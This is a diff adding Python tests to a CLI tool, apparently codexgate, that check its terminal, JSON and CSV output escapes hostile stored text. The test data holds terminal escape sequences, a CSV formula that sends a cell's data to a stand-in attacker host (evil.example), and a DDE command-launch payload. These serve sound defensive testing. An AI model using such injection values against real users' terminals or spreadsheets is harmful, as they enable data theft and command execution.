@@ -22,9 +22,10 @@ from aiohttp.test_utils import TestServer
 from codexgate import cli
 from codexgate.commands.common import CommandError
 from codexgate.commands.history import parse_when
-from codexgate.commands.output import colour_enabled, duration
+from codexgate.commands.output import colour_enabled, csv_cell, duration
 from codexgate.keys import STORE
 from codexgate.models import Identity
+from codexgate.sanitize import has_unsafe
 from codexgate.store import Store
 
 from .admin_client import ADMIN, JWTS, OPAQUE
@@ -666,3 +667,107 @@ async def test_url_errors(
         2,
         "codexgate: --url must be an http:// or https:// URL, got 'ftp://x'\n",
     )
+
+
+# -- text from traffic on the terminal ------------------------------------------------------------
+
+HOSTILE_EMAIL = "mallory\x1b]0;owned\x07@example.com"  # retitles the terminal
+HOSTILE_NAME = "work\x1b[2J\x1b[8m\u202egpj.exe"  # clears the screen, hides text, reverses it
+HOSTILE_PLAN = "plus\x9b31m\x7f"  # a C1 control sequence introducer
+FORMULA_LIMIT = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def _poison(db: Path) -> None:
+    """Give account 1 the text an older codexgate could have stored from a hostile client."""
+    with sqlite3.connect(db) as connection:
+        connection.execute(
+            "UPDATE accounts SET email = ?, display_name = ?, plan_type = ? WHERE id = 1",
+            (HOSTILE_EMAIL, HOSTILE_NAME, HOSTILE_PLAN),
+        )
+        connection.execute(
+            "UPDATE usage_snapshots SET limit_id = ? WHERE account_id = 1", (FORMULA_LIMIT,)
+        )
+
+
+def _acting(text: str) -> list[str]:
+    """The characters of text that a terminal would act on (a newline ends a line, as meant)."""
+    return [c for c in text if c != "\n" and has_unsafe(c)]
+
+
+def test_outside_text_is_escaped_in_every_table_and_message(
+    db: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _poison(db)
+    for args in (("status",), ("accounts", "list"), ("history", "1")):
+        code, out, err = run(capsys, *args, "--db", str(db))
+        assert code == 0, err
+        assert _acting(out) == [], args
+    _, out, _ = run(capsys, "accounts", "list", "--db", str(db))
+    assert "mallory\\x1b]0;owned\\x07@example.com" in out
+    assert "work\\x1b[2J\\x1b[8m\\u202egpj.exe" in out
+    assert "plus\\x9b31m\\x7f" in out
+    code, out, _ = run(capsys, "accounts", "rm", "1", "--yes", "--db", str(db))
+    assert code == 0
+    assert _acting(out) == []
+    assert "work\\x1b[2J" in out
+
+
+def test_json_output_escapes_what_json_leaves_raw(
+    db: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _poison(db)
+    for args in (("status",), ("accounts", "list")):
+        code, out, _ = run(capsys, *args, "--db", str(db), "--json")
+        assert code == 0
+        assert _acting(out) == [], args
+        [first, *_] = orjson.loads(out)["accounts"]
+        assert (first["email"], first["display_name"]) == (HOSTILE_EMAIL, HOSTILE_NAME)
+        assert first["plan_type"] == HOSTILE_PLAN  # the same value, only written escaped
+    code, out, _ = run(capsys, "history", "1", "--db", str(db), "--json")
+    assert _acting(out) == []
+    assert {item["limit_id"] for item in orjson.loads(out)["items"]} == {FORMULA_LIMIT}
+
+
+def test_history_csv_never_starts_a_formula(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    _poison(db)
+    code, out, _ = run(capsys, "history", "1", "--db", str(db), "--csv")
+    assert code == 0
+    _, *rows = list(csv.reader(io.StringIO(out)))
+    assert rows
+    assert {row[1] for row in rows} == {"'" + FORMULA_LIMIT}
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\\x09=1"),
+        ("\r=1", "'\\x0d=1"),
+        ("codex_bengalfox", "codex_bengalfox"),
+        ("2026-03-01T12:00:00Z", "2026-03-01T12:00:00Z"),
+        ("", ""),
+    ],
+)
+def test_csv_cells(cell: str, shown: str) -> None:
+    assert csv_cell(cell) == shown
+
+
+@pytest.mark.parametrize("name", ["\x1b]0;x\x07", "bob\u202e", "two\nlines", "nul\x00"])
+def test_names_with_control_characters_are_refused(
+    db: Path, capsys: pytest.CaptureFixture[str], name: str
+) -> None:
+    code, out, err = run(capsys, "accounts", "rename", "1", name, "--db", str(db))
+    assert (code, out) == (2, "")
+    assert "must not contain control characters" in err
+    assert _acting(err) == []
+    code, _, err = run(
+        capsys, "accounts", "add", "--db", str(db), "--token", OPAQUE, "--name", name
+    )
+    assert code == 2
+    assert "must not contain control characters" in err
+    assert "work" in run(capsys, "accounts", "list", "--db", str(db))[1]  # nothing changed
